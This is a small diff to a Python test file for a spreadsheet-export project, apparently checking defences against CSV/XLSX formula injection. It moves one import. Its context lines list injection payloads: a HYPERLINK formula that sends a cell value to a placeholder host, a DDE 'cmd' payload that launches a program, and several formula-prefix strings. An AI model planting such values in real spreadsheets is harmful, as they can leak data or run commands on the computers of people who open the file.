@@ -2,12 +2,12 @@
 
 import openpyxl
 import pytest
+from ingest_files import dossier, write_csv, write_xlsx
 
 from hoaan_analytics import db
 from hoaan_analytics.form06 import write_form06
 from hoaan_analytics.ingest import ingest_files
 from hoaan_analytics.periods import parse_period
-from ingest_files import dossier, write_csv, write_xlsx
 
 PAYLOADS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1,2)", "=1+1", "\t=1+1"]
